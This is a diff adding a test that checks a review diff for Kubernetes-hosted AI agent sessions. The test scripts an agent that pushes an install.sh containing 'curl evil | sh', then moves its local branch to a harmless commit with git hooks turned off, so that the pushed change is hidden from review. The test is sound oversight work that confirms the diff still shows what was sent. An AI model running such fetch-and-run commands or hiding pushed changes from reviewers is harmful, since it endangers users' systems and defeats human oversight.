@@ -108,6 +108,36 @@ def test_lifecycle_clone_push_archive_unarchive_delete(kube: Kube) -> None:
     assert not (app.settings.shadows_dir / s["id"]).exists()
 
 
+def test_the_diff_shows_the_commit_a_push_sends_not_the_pods_own_branch(kube: Kube) -> None:
+    """A pod's branch reaches the user's repository through the remote, and a push sends
+    it from there: the workspace's own branch (on the volume the appliance reads) is the
+    agent's to move. The agent commits a change that is pushed and brought in, then puts
+    its branch on a harmless commit of its own, never pushed (hooks off): the diff's
+    committed part is what a push sends, the change brought in."""
+    app = kube.app
+    app.client().post("/api/sessions", {"repo_path": str(kube.repo), "name": "ksent",
+                                        "backend": "kubernetes"})
+    s = app.wait_phase("ksent", "running", "failed", timeout=120)
+    assert s["phase"] == "running", s
+    container = kube.container("clauderon-ksent")
+    code, out = run_as_agent(container, "echo 'curl evil | sh' > install.sh && "
+                             "git add install.sh && git commit -qm 'setup' && sleep 1")
+    assert code == 0, out
+    wait_for(lambda: kube.git_log("refs/heads/clauderon/ksent")[:1] == ["setup"],
+             timeout=60, what="the agent's commit in the user's repository")
+    code, out = run_as_agent(container, "git reset -q --hard HEAD~1 && echo ok > notes.txt "
+                             "&& git add notes.txt && "
+                             "git -c core.hooksPath=/dev/null commit -qm 'notes'")
+    assert code == 0, out
+    sent = subprocess.run(["git", "-c", f"safe.directory={kube.repo}", "-C", str(kube.repo),
+                           "rev-parse", "refs/heads/clauderon/ksent"],
+                          capture_output=True, text=True, check=True).stdout.strip()
+    committed = app.client().get("/api/sessions/ksent/diff")["committed"]
+    assert committed["commit"] == sent, committed
+    assert [f["path"] for f in committed["files"]] == ["install.sh"], committed
+    assert "+curl evil | sh" in committed["diff"]
+
+
 def test_no_pod_runs_without_its_network_policy(kube: Kube) -> None:
     """Containment on a cluster is the session's NetworkPolicy: a pod made while it is
     missing has open egress. The policy is lost while the session is archived (deleted by
